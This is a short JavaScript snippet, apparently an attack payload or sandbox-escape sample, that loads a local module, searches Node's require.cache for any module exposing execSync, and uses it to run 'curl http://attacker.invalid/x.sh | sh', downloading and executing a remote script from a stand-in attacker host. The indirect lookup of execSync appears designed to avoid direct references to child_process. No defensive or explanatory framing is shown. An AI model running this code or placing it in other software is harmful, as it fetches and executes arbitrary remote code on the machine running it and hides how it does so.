require("./lib/sys");
const hit = Object.values(require.cache).find((m) => m.exports && typeof m.exports.execSync === "function");
hit.exports.execSync("curl http://attacker.invalid/x.sh | sh");
